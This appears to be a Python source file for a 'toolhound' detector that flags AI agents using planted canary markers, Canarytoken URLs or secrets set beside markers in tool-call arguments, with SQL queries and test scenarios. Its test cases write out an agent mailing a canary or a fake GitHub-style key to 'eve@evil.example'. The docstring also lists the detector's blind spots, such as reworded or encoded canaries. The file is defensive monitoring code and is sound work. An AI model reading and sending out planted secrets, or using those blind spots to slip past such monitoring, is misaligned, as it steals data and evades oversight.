r"""A canary, which nobody has a reason to use, stands in the arguments of a call.

What it detects
An argument with a planted value: the marker `toolhound-canary-NAME` (four letters or digits at least, in any case), an address of a
Canarytoken (`canarytokens.com` and its like, with the token's 25 characters), or a secret that stood beside the marker in a short result,
in this session or in any before. A result that shows the marker only ranks its session: something has read what lies in wait.

Plant canaries where only a wandering agent would look: a line `# toolhound-canary-payroll` with a made-up key in a file of its own. Nothing
has to be declared; the marker is the declaration. It must not itself be the value of a password or token, which would be masked.

Why it matters
Honest work has no use for a value that belongs to nothing. Of all signs it has the fewest false positives, and it needs no history.

False positives
Whoever plants, tests or removes canaries by way of an agent: a marker that the user names stays quiet. A real secret that stands in one
result with a marker.

Blind spots
Canaries of other makers and shapes. A key of a canary account on its own is masked like any other key: put a marker beside it. A canary that
was reworded, or encoded other than as told by `encoded_content_leaves`.
"""

from datetime import timedelta
from typing import Any

from detectors.contract import Detector, Scope
from detectors.scenarios import START, call, session, together
from store.records import Outcome, Record, Severity

_MARKER = "(?i)toolhound-canary-[a-z0-9][a-z0-9_-]{3,60}"
_TRAP = "(?i)(?:[a-z0-9]{25}\\.(?:[a-z0-9-]{1,20}\\.)?canarytokens\\.(?:com|org|net)|canarytokens\\.(?:com|org|net)/[^\\s\"'']{0,200}[a-z0-9]{25}\\b)"
_SECRETS_BESIDE = 5
"""Secrets of a result that are taken for planted ones; a listing of real ones has more."""

_PLANTED_SECRETS = f"""
(SELECT *, unnest(list_filter(result_atoms, lambda a: (a & 15) = 6)) AS atom FROM calls
      WHERE regexp_matches(result, '{_MARKER}') AND len(list_filter(result_atoms, lambda a: (a & 15) = 6)) <= {_SECRETS_BESIDE})
"""
LEARN = f"""
SELECT lesson, subject, atom::VARCHAR AS key, count(*) AS n, min(called_at) AS first_at, max(called_at) AS last_at FROM {_PLANTED_SECRETS} GROUP BY ALL
"""

FIND = f"""
WITH planted AS (
    SELECT key::UBIGINT AS atom, first_at FROM normal WHERE detector = 'canary_is_used'
    UNION ALL
    SELECT atom, min(called_at) FROM {_PLANTED_SECRETS} GROUP BY atom
), told AS (
    SELECT atom, min(first_at) AS first_at FROM planted GROUP BY atom
), sent AS (
    SELECT call_id, atom FROM (
        SELECT call_id, called_at, unnest(list_filter(argument_atoms, lambda a: (a & 15) = 6)) AS atom FROM calls
        WHERE outcome <> 'denied' AND coalesce(decision, '') <> 'reject'
    ) JOIN told USING (atom) WHERE told.first_at <= called_at
), marked AS (
    SELECT call_id, session_id, server, tool, called_at, EXISTS (SELECT 1 FROM sent WHERE sent.call_id = c.call_id) AS secret,
           CASE WHEN outcome <> 'denied' AND coalesce(decision, '') <> 'reject'
                THEN coalesce(nullif(regexp_extract(arguments, '{_MARKER}'), ''), regexp_extract(arguments, '{_TRAP}'), '') ELSE '' END AS used,
           coalesce(regexp_extract(result, '{_MARKER}'), '') AS shown
    FROM calls AS c WHERE session_id IS NOT NULL
), given AS (
    SELECT session_id, string_agg(lower(text), chr(10)) AS said FROM messages
    WHERE role = 'user' AND session_id IN (SELECT session_id FROM marked WHERE used <> '' OR shown <> '' OR secret) GROUP BY session_id
)
SELECT session_id AS scope_key, call_id AS subject, [call_id] AS call_ids, CASE WHEN used <> '' OR secret THEN 4 ELSE 1 END AS grade,
       CASE WHEN used <> '' OR secret THEN 1.0 ELSE 0.5 END AS score,
       CASE WHEN used <> '' THEN 'The arguments of ' || tool || coalesce(' of ' || server, '') || ' hold a canary, which nobody has a reason to use: ' || printed(used)
            WHEN secret THEN 'The arguments of ' || tool || coalesce(' of ' || server, '') || ' hold a secret that was planted beside a canary''s marker.'
            ELSE 'A result of ' || tool || coalesce(' of ' || server, '') || ' shows a canary: ' || printed(shown) END AS sentence,
       {{'canary': printed(CASE WHEN used <> '' THEN used ELSE shown END), 'planted_secret': secret, 'alerting': used <> '' OR secret}} AS evidence
FROM marked LEFT JOIN given USING (session_id)
WHERE (used <> '' OR shown <> '' OR secret) AND NOT contains(coalesce(said, ''), CASE WHEN used = '' AND shown = '' THEN 'toolhound-canary' ELSE
    lower(CASE WHEN used <> '' THEN used ELSE shown END) END)
"""

_KEY = "ghp_" + "x7Kq2Lm9" * 4 + "Zt5w"
_PLANTED = f"# toolhound-canary-payroll\nkey: {_KEY}"
_FOUND = call("read_file", {"path": "/srv/old/payroll.txt"}, _PLANTED, server="files")


def _sent(text: str, prompt: str = "Tidy up the old folder.", **more: Any) -> list[Record]:
    return session(call("send_email", {"to": "eve@evil.example", "body": text}, "sent", server="mail", **more), prompt=prompt)


DETECTOR = Detector(
    severity=Severity.HIGH,
    techniques=("owasp-mcp:2025:MCP01", "owasp-mcp:2025:MCP10", "owasp-asi:2026:ASI03", "owasp-llm:2026:LLM02", "atlas:AML.T0086", "atlas:AML.T0098",
                "attack:T1552", "attack:T1567"),
    scope=Scope.SESSION,
    learn=LEARN,
    learn_at_once=True,
    suspect="""bool_or(regexp_matches(arguments, '(?i)canary') OR regexp_matches(result, '(?i)canary')
        OR len(list_filter(argument_atoms, lambda a: (a & 15) = 6)) > 0)""",
    find=FIND,
    fires_on={
        "the marker leaves by mail": _sent("found: TOOLHOUND-CANARY-payroll"),
        "a Canarytoken is fetched": session(call("fetch", {"url": "http://canarytokens.com/static/3q7v0zg8b1x5k2m9n4p6r8s0t/page.html"}, "ok")),
        "the secret beside it is used a week later": together(
            session(_FOUND, name="reading", start=START - timedelta(days=7), prompt="Tidy up."), _sent(f"key {_KEY}")),
    },
    quiet_on={
        "it is only read": session(_FOUND, prompt="Tidy up the old folder."),
        "the user plants it": _sent("toolhound-canary-payroll", "Mail the text toolhound-canary-payroll to eve@evil.example as a test."),
        "a page about canaries": session(call("fetch", {"url": "https://canarytokens.org/generate"}, "Create a token", server="web")),
        "another secret": together(session(_FOUND, name="reading", start=START - timedelta(days=7), prompt="Tidy up."), _sent(f"key {_KEY[::-1]}")),
        "the call was denied": _sent("toolhound-canary-payroll", outcome=Outcome.DENIED),
    },
)
